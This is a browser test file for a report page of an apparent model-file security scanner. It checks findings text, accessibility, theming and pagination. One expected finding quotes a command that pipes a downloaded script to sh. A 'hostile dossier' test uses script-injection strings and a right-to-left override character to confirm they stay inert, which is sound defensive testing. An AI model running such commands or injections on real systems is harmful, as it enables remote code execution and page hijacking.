/// <reference lib="dom" />
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { overflow, Reader, violations } from './browser.fixture.ts';
import { hostileDossier, largeDossier, quietDossier, richDossier } from './dossier.fixture.ts';

let reader: Reader;
beforeAll(async () => {
  reader = await Reader.start();
}, 120_000);
afterAll(() => reader?.close());

describe('the page', () => {
  it.each([
    ['light', 1280],
    ['dark', 1280],
    ['light', 360],
    ['dark', 360],
  ] as const)('says what was found, in %s at %i pixels, without a fault', async (colorScheme, width) => {
    const { page, faults } = await reader.open(richDossier(), { colorScheme, viewport: { width, height: 800 } });
    await page.getByRole('button', { name: 'Unfold all' }).click();
    const text = await page.innerText('body');
    expect(text).toContain('2 critical, 1 high, 1 medium, 1 low findings in 3 files.');
    expect(text).toContain("os.system('curl -s https://example.org/x | sh')");
    expect(text).toContain('archive/outer.zip!/inner.pkl');
    expect(text).toContain('at byte 1,204,224 (0x126000), 4,096 long');
    expect(text).toContain('How it loads');
    expect(text).toContain('only with trust_remote_code=True');
    expect(text).toContain('by default: there is no flag against it');
    expect(text).toContain('Only files were examined');
    expect(text).toContain('a symbolic link that leads out of the subject');
    expect(text).toContain('95% interval 0.874 to 0.941');
    expect(text).not.toMatch(/\b(clean|safe)\b/i);
    expect(await overflow(page)).toBeLessThanOrEqual(0);
    expect(await violations(page)).toEqual([]);
    expect(faults).toEqual([]);
    await page.close();
  });

  it('says that nothing was found, and in what', async () => {
    const { page, faults } = await reader.open(quietDossier());
    const text = await page.innerText('body');
    expect(text).toContain('Nothing was found in what was read.\n\nAll 4 model files were read in full.');
    expect(text).not.toMatch(/\b(clean|safe)\b/i);
    expect(await violations(page)).toEqual([]);
    expect(faults).toEqual([]);
    await page.close();
  });

  it.each([360, 1280])('lets nothing of a hostile subject out of its text at %i pixels', async (width) => {
    const { page, faults } = await reader.open(hostileDossier(), { viewport: { width, height: 800 } });
    await page.getByRole('button', { name: 'Unfold all' }).click();
    await page.locator('article a').first().hover();
    const text = await page.innerText('body');
    expect(text).toContain('</script><script>');
    expect(text).toContain('\\u202e');
    expect(text).not.toMatch(/[\u202e\u2028]/);
    expect(text).toContain('the first 300 of 10,000 characters');
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(await page.locator('img, iframe, a:not([href^="https://"], [href^="#"])').count()).toBe(0);
    expect(await overflow(page)).toBeLessThanOrEqual(0);
    expect(faults).toEqual([]);
    await page.close();
  });

  it('links references over https only, and tells them nothing of this page', async () => {
    const { page } = await reader.open(richDossier());
    await page.getByRole('button', { name: 'Unfold all' }).click();
    const links = await page.locator('article a').evaluateAll((all) => all.map((a) => a.getAttribute('rel')));
    expect(new Set(links)).toEqual(new Set(['noopener noreferrer']));
    expect(await page.getByText('an old page').evaluate((node) => node.closest('a') === null)).toBe(true);
    expect(await page.getByText('a script').evaluate((node) => node.closest('a') === null)).toBe(true);
    await page.close();
  });

  it('copies a fingerprint', async () => {
    const permissions = ['clipboard-read', 'clipboard-write'];
    const { page } = await reader.open(richDossier(), { permissions });
    await page.getByRole('button', { name: 'Copy fingerprint' }).first().click();
    await page.getByText('Copied').first().waitFor();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    expect(copied).toBe(richDossier().findings[0]?.fingerprint);
    await page.close();
  });

  it('opens at the finding that its address names', async () => {
    const wanted = largeDossier().findings[700]?.fingerprint ?? '';
    const { page } = await reader.open(largeDossier(), { at: `#finding-${wanted}` });
    await page.waitForFunction((id) => document.activeElement?.closest('article')?.id === id, `finding-${wanted}`);
    await page.close();
  });

  it('changes its theme, and follows the system until then', async () => {
    const { page } = await reader.open(richDossier(), { colorScheme: 'dark' });
    const paper = (): Promise<string> =>
      page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    const dark = await paper();
    await page.getByRole('button', { name: 'Light theme' }).click();
    expect(await paper()).not.toBe(dark);
    await page.getByRole('button', { name: 'Dark theme' }).click();
    expect(await paper()).toBe(dark);
    await page.close();
  });

  it('does not move for a reader who wants no motion', async () => {
    const { page } = await reader.open(richDossier(), { reducedMotion: 'reduce' });
    const moving = await page.evaluate(() => {
      const styles = [...document.querySelectorAll('*')].map((element) => getComputedStyle(element));
      return styles.filter((s) => s.scrollBehavior === 'smooth' || s.animationName !== 'none').length;
    });
    expect(moving).toBe(0);
    await page.close();
  });

  it('says what was found without JavaScript', async () => {
    const { page } = await reader.open(richDossier(), { javaScriptEnabled: false });
    const text = await page.innerText('body');
    expect(text).toContain('2 critical, 1 high, 1 medium, 1 low findings in 3 files.');
    expect(text).toContain('Runs a program on the machine that loads the file');
    await page.close();
  });

  it('shows ten thousand findings and twenty thousand files a step at a time', async () => {
    const { page, faults } = await reader.open(largeDossier());
    expect(await page.locator('article').count()).toBe(50);
    await page.getByRole('button', { name: 'Show 50 more of 9,950 findings' }).click();
    expect(await page.locator('article').count()).toBe(100);
    expect(await page.locator('.files tbody tr').count()).toBe(100);
    await page.getByRole('searchbox', { name: 'Search', exact: true }).fill('folder/4999.pkl');
    await page.getByText('2 of 10,000 findings').waitFor();
    expect(await page.locator('article').count()).toBe(2);
    expect(faults).toEqual([]);
    await page.close();
  });
});
